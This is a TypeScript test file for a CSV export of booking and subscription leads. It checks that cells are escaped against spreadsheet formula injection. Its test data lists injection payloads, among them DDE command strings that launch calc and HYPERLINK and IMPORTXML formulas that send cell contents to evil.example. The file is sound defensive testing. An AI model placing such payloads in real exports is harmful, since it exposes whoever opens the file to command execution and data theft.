import { aBookingLead, aSubscriptionLead } from '../../testing/builders';
import { CSV_HEADER, csvCell, csvLine } from './csv';

const FORMULAS = [
  ...[
    '=1+1',
    '+63 917',
    '-2',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '\0x',
    '\t=1',
    '\r\n=1',
    ' =1',
    '\u00a0=1',
    '\0=1',
  ],
  ...[
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
  ],
  ...[
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("x")',
  ],
  ...[
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    'a","=1',
    'a\r\n=1',
    '";=1',
    '=1,2',
    '=1;2',
    "='x'",
    '"=1"',
    '\ufeff=1',
  ],
];

/** The cells of a line as a spreadsheet reads them (RFC 4180), whichever sign it takes for the end of a cell. */
function read(line: string, separator: string): string[] {
  const cells: string[] = [];
  let rest = line;
  do {
    const [whole = '', quoted, bare = ''] =
      new RegExp(`^(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))(?:${separator}|$)`).exec(rest) ?? [];
    cells.push(quoted?.replaceAll('""', '"') ?? bare);
    rest = rest.slice(whole.length);
    if (whole === '') return [...cells, rest];
  } while (rest !== '');
  return cells;
}

test.each(FORMULAS)('keeps a spreadsheet from running %j', (text) => {
  for (const separator of [',', ';', '\t']) {
    const cells = read([csvCell(text), 'x'].join(separator), separator);
    expect(cells).toHaveLength(2);
    expect(cells[0]).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
    expect(cells[0]?.replace(/^'/, '')).toBe(text);
  }
});

test('quotes what would break the line', () => {
  expect(csvCell('a,b')).toBe('"a,b"');
  expect(csvCell('says "yes"\nto it')).toBe('"says ""yes""\nto it"');
  expect(csvCell(null)).toBe('');
});

test('gives both kinds of lead the same columns', () => {
  const columns = (line: string) => line.split(',').length;
  expect(columns(csvLine(aBookingLead({ notes: 'Calm' })))).toBe(columns(CSV_HEADER));
  expect(columns(csvLine(aSubscriptionLead()))).toBe(columns(CSV_HEADER));
});

test('writes words, not codes', () => {
  expect(csvLine(aBookingLead())).toContain('10:00 AM,Retirement Planning');
});
